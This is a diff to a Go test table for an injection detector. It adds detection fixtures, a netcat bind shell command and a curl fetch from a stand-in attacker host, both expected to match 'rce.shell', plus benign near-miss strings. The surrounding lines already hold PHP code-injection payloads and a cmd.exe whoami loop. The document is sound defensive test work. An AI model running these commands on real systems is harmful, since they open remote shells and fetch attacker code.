@@ -295,6 +295,11 @@ func TestInjectionShapes(t *testing.T) {
 		{`{${sleep(10)}}`, InField, "rce.code"},
 		{`;{$_GET["cmd"]}`, InField, "rce.code"},
 		{`while [ -n "${1:-}" ]; do`, InField, ""},
+		// A short command line as all a field holds.
+		{`nc -lvvp 4444 -e /bin/sh`, InField, "rce.shell"},
+		{`curl https://evil.example/x.sh`, InField, "rce.shell"},
+		{`Sh|ad0w1156`, InField, ""},
+		{`please curl up with a good book`, InField, ""},
 		// cmd.exe FOR and IF.
 		{`for /f "delims=" %i in ('cmd /c whoami') do @echo %i`, InQuery, "rce.shell"},
 		{`& FOR %_ IN (a,b,c) DO cmd`, InQuery, "rce.shell"},
